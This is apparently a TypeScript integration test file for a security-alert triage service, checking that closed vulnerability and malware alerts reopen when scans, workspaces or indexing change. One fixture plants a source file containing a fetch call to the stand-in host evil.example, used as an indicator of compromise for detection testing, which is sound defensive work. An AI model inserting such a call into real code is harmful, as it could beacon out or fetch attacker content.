/** Conclusions follow what they rest on: what was closed is judged again when any of it changes, and says what did. */
import type { Alert, TimelineEntry } from '@vedette/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SignedMonitor } from '../../../../../tests/world/monitors.ts';
import { project } from '../../../../../tests/world/npm-project.ts';
import type { Caller } from '../../../../../tests/world/people.ts';
import { insertScan } from '../../../../../tests/world/scan-fixtures.ts';
import type { Files } from '../../../../../tests/world/triage.ts';
import { createWorld, type World } from '../../../../../tests/world/world.ts';
import { componentHandlers, indexCompletedScan } from '../components/index.ts';
import { workspaceHandlers } from '../workspaces/index.ts';
import { retriageAfterWorkspaceChange, retriageTouched } from './retriage.ts';

let world: World;

beforeAll(async () => {
  world = await createWorld();
});
afterAll(() => world.close());

const code = { 'src/index.js': "const _ = require('lodash');\n_.template('');\n" };
const affected = project({ lodash: '^4.17.0' }, { lodash: { version: '4.17.20' } }, code);
const without = project({ express: '^4.0.0' }, { express: { version: '4.18.0' } });

const told = {
  vulnerability: {
    package: 'lodash',
    ecosystem: 'npm',
    currentVersion: '4.17.20',
    fixedVersion: '4.17.21',
    advisory: 'CVE-2021-23337',
    severity: 'critical',
  },
};

interface Organization {
  readonly id: string;
  readonly manager: Caller;
  readonly monitor: SignedMonitor;
}

async function organization(): Promise<Organization> {
  const id = await world.company();
  const manager = await world.caller('manager', id);
  return { id, manager, monitor: await world.monitor(manager, {}, id) };
}

async function triaged({ manager, monitor }: Organization, payload: unknown): Promise<Alert> {
  const [alert] = await world.triaged(manager, monitor, payload);
  if (alert === undefined) throw new Error('no alert was made');
  return alert;
}

const now = ({ manager }: Organization, { id }: Alert) => world.alert(manager, id);

/** What the timeline says that changed, the latest triage first. */
async function changesOf({ manager }: Organization, { id }: Alert): Promise<string> {
  const { items } = await world.requestOk<{ items: TimelineEntry[] }>(
    manager,
    'GET',
    `/api/v0/alerts/${id}/timeline`,
  );
  return items.flatMap(({ details }) => (details as { changed?: string[] }).changed ?? []).join('\n');
}

const jobOf = (name: string, handlers: ReturnType<typeof workspaceHandlers>) => {
  const found = handlers.find(({ kind }) => kind.name === name);
  if (found === undefined) throw new Error(`no handler of ${name}`);
  return (data: unknown) => found.run(data, new AbortController().signal);
};

/** Does the jobs about workspaces of an organization that were sent, as a worker would, and lets the agent go to work. */
async function workspaceJobs(organizationId: string): Promise<number> {
  const { ctx } = world.server.assembly;
  const run = jobOf('workspaces.changed', workspaceHandlers(ctx, [retriageAfterWorkspaceChange]));
  const sent = await ctx.db.query<{ data: unknown }>(
    {
      text: `select data from jobs.job where name = 'workspaces.changed' and data ->> 'organizationId' = $1`,
    },
    [organizationId],
  );
  for (const { data } of sent) await run(data);
  await ctx.db.query({ text: `delete from jobs.job where data ->> 'organizationId' = $1` }, [organizationId]);
  await world.runTriageWorker();
  return sent.length;
}

const setStatus = async ({ manager, id }: Organization, workspaceId: string, status: string) => {
  await world.requestOk(manager, 'PATCH', `/api/v0/workspaces/${workspaceId}`, { status });
  expect(await workspaceJobs(id)).toBe(1);
};

describe('an alert that a person closed', () => {
  test('stays closed while its inputs do, and is reopened by a scan that has the package, saying what changed', async () => {
    const here = await organization();
    const { workspaceId } = await world.rescanned(here.id, without);
    const alert = await triaged(here, told);
    await world.requestOk(here.manager, 'PATCH', `/api/v0/alerts/${alert.id}`, {
      disposition: 'benign',
      status: 'closed',
      reason: 'Not here.',
    });
    await world.rescanned(here.id, without, workspaceId);
    expect(await now(here, alert)).toMatchObject({ status: 'closed', disposition: 'benign' });
    await world.rescanned(here.id, affected, workspaceId);
    expect(await now(here, alert)).toMatchObject({ status: 'escalated', disposition: 'confirmed_threat' });
    expect(await changesOf(here, alert)).toMatch(/absent before, affected_imported now/);
  });
});

describe('workspaces that come and go', () => {
  test('an archived one no longer counts, and counts again when it is brought back', async () => {
    const here = await organization();
    await world.rescanned(here.id, without);
    const { workspaceId } = await world.rescanned(here.id, affected);
    await workspaceJobs(here.id);
    const alert = await triaged(here, told);
    expect(alert).toMatchObject({ status: 'escalated', disposition: 'confirmed_threat' });
    await setStatus(here, workspaceId, 'archived');
    expect(await now(here, alert)).toMatchObject({ status: 'closed', disposition: 'benign' });
    await setStatus(here, workspaceId, 'active');
    expect(await now(here, alert)).toMatchObject({ status: 'escalated', disposition: 'confirmed_threat' });
    expect(await changesOf(here, alert)).toMatch(/absent before, affected_imported now/);
  });

  test('a new one that nobody has scanned keeps nothing closed, once its first scan had the time to come', async () => {
    const { ctx } = world.server.assembly;
    const here = await organization();
    await world.rescanned(here.id, without);
    await workspaceJobs(here.id);
    const alert = await triaged(here, told);
    expect(alert).toMatchObject({ status: 'closed', disposition: 'benign' });
    const { id: workspaceId } = await world.localWorkspace(here.id, 'fresh');
    await workspaceJobs(here.id);
    expect(await now(here, alert)).toMatchObject({ status: 'closed' });
    await ctx.db.query(
      { text: 'update triage_queue set due_at = clock_timestamp() where organization_id = $1' },
      [here.id],
    );
    await world.runTriageWorker();
    expect(await now(here, alert)).toMatchObject({ status: 'escalated', disposition: 'unknown' });
    expect(await changesOf(here, alert)).toMatch(/Workspace fresh: absent before, not_covered now/);
    await world.rescanned(here.id, without, workspaceId);
    expect(await now(here, alert)).toMatchObject({ status: 'closed', disposition: 'benign' });
  });
});

describe('an indicator of compromise', () => {
  test('that appears in a later scan finds the alert that was closed without it, under whatever key it was told', async () => {
    const here = await organization();
    const { workspaceId } = await world.rescanned(here.id, without);
    const threat = { type: 'malware', package: 'other', detectedVersion: '1.0.0', ecosystem: 'npm' };
    const alert = await triaged(here, { threat: { ...threat, iocs: { domains: ['evil[.]example'] } } });
    expect(alert).toMatchObject({ status: 'closed', disposition: 'benign' });
    const later: Files = { ...without, 'src/load.js': "fetch('https://evil.example/x');\n" };
    await world.rescanned(here.id, later, workspaceId);
    expect(await now(here, alert)).toMatchObject({ status: 'escalated', disposition: 'suspicious' });
    expect(await changesOf(here, alert)).toContain('evil');
  });
});

describe('a scan that cannot be indexed', () => {
  test('reopens what was closed without it, forbids closing, and is forgotten once a later one is in place', async () => {
    const { ctx } = world.server.assembly;
    const here = await organization();
    const { workspaceId } = await world.rescanned(here.id, without);
    await workspaceJobs(here.id);
    const alert = await triaged(here, told);
    expect(alert.status).toBe('closed');
    // A completed scan whose documents are gone.
    const scanId = await completedScanWithoutDocuments(here, workspaceId);
    const run = jobOf('components.index-scan', componentHandlers(ctx, [retriageTouched]));
    await expect(run({ organizationId: here.id, workspaceId, scanId })).rejects.toThrow(/no blob/);
    await ctx.db.query(
      { text: `update pending_scan_indexes set completed_at = completed_at - interval '30 s'` },
      [],
    );
    await world.runTriageWorker();
    const reopened = await now(here, alert);
    expect(reopened).toMatchObject({ status: 'escalated', disposition: 'unknown' });
    expect(reopened.triage?.gaps[0]?.what).toMatch(/not taken in/);
    await world.rescanned(here.id, without, workspaceId, { completedAt: new Date(Date.now() + 60_000) });
    expect(await now(here, alert)).toMatchObject({ status: 'closed', disposition: 'benign' });
    const left = await ctx.db.query(
      { text: 'select 1 as one from pending_scan_indexes where organization_id = $1' },
      [here.id],
    );
    expect(left).toEqual([]);
  });
});

/** As the end of a scan leaves it, but for its result. */
async function completedScanWithoutDocuments(here: Organization, workspaceId: string): Promise<string> {
  const { ctx } = world.server.assembly;
  const coverage = { complete: true, filesAnalysed: 1, filesSkipped: [], filesIncomplete: [] };
  const ended = {
    status: 'completed',
    phase: 'ended',
    percent: 100,
    coverage: JSON.stringify(coverage),
    result_attempt: 1,
    findings_pages: 0,
    findings_total: 0,
  } as const;
  const place = { organizationId: here.id, workspaceId };
  const scanId = await insertScan(ctx, place, { ...ended, started_at: new Date(), finished_at: new Date() });
  await ctx.transaction((tx) => indexCompletedScan(tx, { ...place, scanId }));
  return scanId;
}
